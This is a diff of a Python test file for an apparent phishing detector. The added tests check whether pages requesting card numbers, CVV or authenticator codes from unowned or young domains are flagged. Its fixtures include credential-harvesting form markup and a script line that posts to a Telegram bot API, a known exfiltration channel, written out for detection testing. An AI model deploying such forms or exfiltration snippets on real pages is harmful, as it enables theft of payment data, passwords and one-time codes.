@@ -10,6 +10,8 @@ LENT = "brook-meadow-4.github.io"
 HONEST = "<h1>Our library</h1><p>Please sign in to see your reading list, your loans and the opening hours of the branch next to you.</p>"
 BOT = "<script>fetch('https://api.telegram.org/bot5551234567:AAE4kd93kLmNoPqRsTuVwXyZ0123456789a/sendMessage?chat_id=1')</script>"
 FIELDS = {
+    "card": "<input name=cardnumber placeholder='Card number'><input name=exp placeholder='MM/YY'><input name=cvv placeholder=CVV>",
+    "code": "<input name=otp placeholder='Code from your authenticator' autocomplete=one-time-code>",
     "secret": "<input name=user placeholder=Email><input type=password name=pw placeholder=Password>",
     "message": "<input name=name placeholder='Full name'><input type=email name=email><textarea name=message></textarea>",
     "document": "<input name=name placeholder='Full name'><input type=file name=cv>",
@@ -93,3 +95,28 @@ def test_who_takes_a_secret_and_shows_no_owner_is_not_acquitted(host: str, age_d
         assert judged.log_odds >= -0.75 or UNPROVEN in judged.held_back
     else:
         assert UNPROVEN not in judged.held_back and judged.verdict is Verdict.LIKELY_BENIGN
+
+
+STREET = "<p>12 Jalan Ampang, 50450 Kuala Lumpur</p>"
+
+
+@pytest.mark.parametrize(
+    ("host", "age_days", "fields", "shown", "fires"),
+    [
+        (LENT, -1, "card", "", True),
+        ("meadowbrook-pay.com", 100, "card", "", True),
+        ("meadowbrook-pay.com", 900, "card", "", False),
+        (LENT, -1, "card", STREET, False),
+        (LENT, -1, "code", "", False),
+        (LENT, -1, "secret", "", False),
+    ],
+)
+def test_who_takes_a_card_says_who_he_is(host: str, age_days: int, fields: str, shown: str, *, fires: bool) -> None:
+    found = nats(row(host, form(fields, "/pay") + shown, age_days=age_days))
+    assert ("content-unowned-secrets" in found) is fires
+
+
+def test_whether_somebody_held_the_name_for_long_may_be_unknown() -> None:
+    judged = row("meadowbrook-pay.com", form("card", "/pay"), age_days=-1)
+    assert "content-unowned-secrets" not in nats(judged)
+    assert "content-unowned-secrets" in {signal for unknown in judged.unknown for signal in unknown.signals}
